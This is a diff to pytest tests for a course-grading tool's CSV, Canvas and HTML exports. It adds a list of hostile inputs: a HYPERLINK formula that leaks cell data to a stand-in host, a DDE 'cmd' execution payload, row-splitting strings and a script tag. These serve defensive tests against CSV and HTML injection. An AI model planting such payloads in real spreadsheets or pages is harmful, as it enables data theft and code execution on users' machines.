@@ -45,8 +45,13 @@ def test_each_row_is_on_disk_as_soon_as_it_is_added(tmp_path):
     assert [r["pa9.design"] for r in table] == [grade.FAIL, grade.PASS]
     manifest = output.read_manifest(tmp_path / "grades_feedback")
     assert manifest["command"] == "uio-teach grade"
-    assert sorted(f["name"] for f in manifest["files"]) == ["a.txt", "b.txt"]
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "grades_feedback"]
+    assert sorted(f["name"] for f in manifest["files"]) == ["a.html", "a.txt", "b.html", "b.txt"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == [
+        "grades.csv",
+        "grades_canvas.csv",
+        "grades_feedback",
+        "grades_groups.csv",
+    ]
 
 
 def test_an_interrupted_run_keeps_its_rows_and_resume_skips_them(tmp_path):
@@ -75,7 +80,7 @@ def test_a_fresh_run_starts_a_new_gradebook(tmp_path):
         book.add(sub("z.ipynb"))
     assert [r["file"] for r in rows(out)] == ["z.ipynb"]
     folder = tmp_path / "grades_feedback"
-    assert sorted(p.name for p in folder.iterdir()) == ["manifest.json", "z.txt"]
+    assert sorted(p.name for p in folder.iterdir()) == ["manifest.json", "z.html", "z.txt"]
 
 
 def test_a_second_run_into_the_same_gradebook_is_refused(tmp_path):
@@ -100,6 +105,7 @@ def test_resume_widens_the_columns_for_a_new_lab(tmp_path):
         "lab",
         "group",
         "status",
+        "reason",
         "pa9.design",
         "missile.pmo",
         "total",
@@ -169,3 +175,83 @@ def test_unreadable_submissions_are_graded_without_a_kernel(tmp_path):
     ]
     text = (tmp_path / "grades_feedback" / "pa9_g01.txt").read_text(encoding="utf-8")
     assert "not a notebook" in text
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "g01\nfake,row,ok,✓",
+    "tab\there\r",
+    "\u2028line",
+    "<script>alert(1)</script>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_cell_of_any_export_is_a_formula_or_breaks_a_line(tmp_path, text):
+    out = tmp_path / "grades.csv"
+    file = f"{text.replace('/', '_')}.ipynb"  # a file name has no slash
+    bad = Submission(file, "pa9", text, "check by hand", reason=text, expected=IDS)
+    bad.errors.append(text)
+    with Gradebook(out, [file], IDS, students={text: [(text, text)]}) as book:
+        book.add(bad)
+    for path in (out, tmp_path / "grades_groups.csv", tmp_path / "grades_canvas.csv"):
+        raw = path.read_text(encoding="utf-8")
+        with open(path, newline="", encoding="utf-8") as fh:
+            table = list(csv.reader(fh))
+        assert len(raw.splitlines()) == len(table)  # no line added by a cell
+        for row in table:
+            for cell in row:
+                assert not any(ord(c) < 32 or c in "\x7f\u2028\u2029" for c in cell), cell
+                if cell and cell[0] in "=+-@":
+                    float(cell)  # only a number may start so
+    page = bad.feedback_file.with_suffix(".html").read_text(encoding="utf-8")
+    assert "<script>" not in page and "<h1>" in page  # every text escaped
+
+
+def test_numbers_stay_numbers_and_the_lms_exports_follow_the_rows(tmp_path):
+    out = tmp_path / "grades.csv"
+    subs = [
+        Submission(
+            "pa9_g01.ipynb",
+            "pa9",
+            "g01",
+            "ok",
+            expected=IDS,
+            results={"pa9.design": {"passed": True, "items": []}},
+        ),
+        Submission(
+            "pa9_g02.ipynb",
+            "pa9",
+            "g02",
+            "check by hand",
+            reason="copied",
+            expected=IDS,
+            results={"pa9.design": {"passed": True, "items": []}},
+        ),
+        Submission("pa9_g03.ipynb", "pa9", "g03", "error", expected=IDS),
+    ]
+    students = {"g01": [("s1", "Ann"), ("s2", "Bo")], "g03": [("s3", "Cy")]}
+    with Gradebook(out, [s.file for s in subs], IDS, students=students) as book:
+        for s in subs:
+            book.add(s)
+    assert [r["total"] for r in rows(out)] == ["1", "1", "0"]
+    groups = rows(tmp_path / "grades_groups.csv")
+    # a row that needs a look exports no mark: it is not imported before someone looks
+    assert [(g["group"], g["total"], g["out_of"]) for g in groups] == [
+        ("g01", "1", "2"),
+        ("g02", "", "2"),
+        ("g03", "0", "2"),
+    ]
+    with open(tmp_path / "grades_canvas.csv", newline="", encoding="utf-8") as fh:
+        canvas = list(csv.reader(fh))
+    assert canvas[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
+    assert canvas[1] == ["Points Possible", "", "", "", "", "2"]
+    assert [(r[0], r[2], r[4], r[5]) for r in canvas[2:]] == [
+        ("Ann", "s1", "g01", "1"),
+        ("Bo", "s2", "g01", "1"),
+        ("g02", "", "g02", ""),
+        ("Cy", "s3", "g03", "0"),
+    ]
